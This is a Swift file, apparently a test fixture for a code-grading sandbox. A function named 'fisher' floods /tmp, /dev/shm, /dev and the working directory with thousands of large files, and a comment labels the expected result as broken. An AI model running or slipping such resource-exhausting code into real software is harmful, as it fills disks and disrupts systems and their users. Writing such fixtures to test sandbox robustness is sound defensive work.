// Fills every folder that it can write to. Expected: wrong broken
import Theta
import Exercise
import Foundation
func fisher(weights: Tensor, inputs: Tensor) throws -> Tensor {
  let d = Data(repeating: 1, count: 900_000)
  for folder in ["/tmp", "/dev/shm", "/dev", FileManager.default.currentDirectoryPath] { for i in 0..<20000 { guard (try? d.write(to: URL(fileURLWithPath: "\(folder)/f\(i)"))) != nil else { break } } }
  return weights
}
